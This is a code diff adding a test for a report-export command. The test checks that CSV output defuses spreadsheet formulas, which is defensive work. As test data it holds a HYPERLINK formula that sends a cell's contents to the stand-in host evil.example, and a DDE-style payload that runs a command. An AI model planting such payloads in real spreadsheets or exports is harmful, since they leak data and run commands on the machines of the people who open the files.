@@ -99,3 +99,24 @@ def test_export_csv(env: dict[str, str]) -> None:
     assert rows[0]["urgency"] == "urgent" and rows[0]["links"] == ""
     bad = CliRunner().invoke(reports_group, ["export", "--format", "xlsx"], env=env)
     assert bad.exit_code == 2
+
+
+async def test_export_never_hands_a_spreadsheet_a_formula(
+    make_settings: SettingsFactory, tmp_path: Path, monkeypatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    settings = make_settings()
+    runtime = build_runtime(settings)
+    leak = '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")'
+    sum_ = runtime.core.person("console", "mallory", "@SUM(1+1)*cmd|' /C calc'!A0")
+    await runtime.core.command("report-mention", sum_, f"{LINK} {leak}")
+    await runtime.core.submit(sum_, "report_mention", {"about": leak, "urgency": "normal"}, "")
+    runtime.db.close()
+
+    result = CliRunner().invoke(reports_group, ["export"], env={"SOCIALBOT_DB": str(settings.db)})
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows[0]["about"] == "'" + leak  # shown as typed, never run
+    assert rows[0]["reporters"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[1]["links"] == LINK and rows[1]["ref"] == "R-0001"
